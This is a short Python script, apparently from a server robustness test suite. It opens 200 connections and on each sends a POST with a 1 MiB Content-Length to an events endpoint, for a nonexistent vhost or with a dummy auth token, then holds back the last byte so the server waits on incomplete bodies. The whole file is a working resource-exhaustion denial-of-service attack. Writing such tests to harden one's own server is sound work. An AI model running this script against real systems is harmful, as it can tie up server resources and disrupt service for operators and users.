"""A megabyte of body, but for its last byte, in requests for a vhost that is not there, or without its token."""

import attack

CONNECTIONS = 200
SIZE = 1 << 20


def bodies_for_nobody(target, stop):
    heads = [f"POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Basic eDp5\r\nContent-Length: {SIZE}\r\n\r\n".encode()
             for path in ("/nobody/channels/c/events", target.path + "/channels/c/events", target.path + "/events")]
    body = b"x" * (SIZE - 1)

    def begin(number):
        connection = target.connect()
        try:
            connection.sendall(heads[number % len(heads)] + body)
        except OSError:
            pass
        return connection

    return attack.in_turn(CONNECTIONS, begin, stop, 0.01)


if __name__ == "__main__":
    attack.main(bodies_for_nobody)
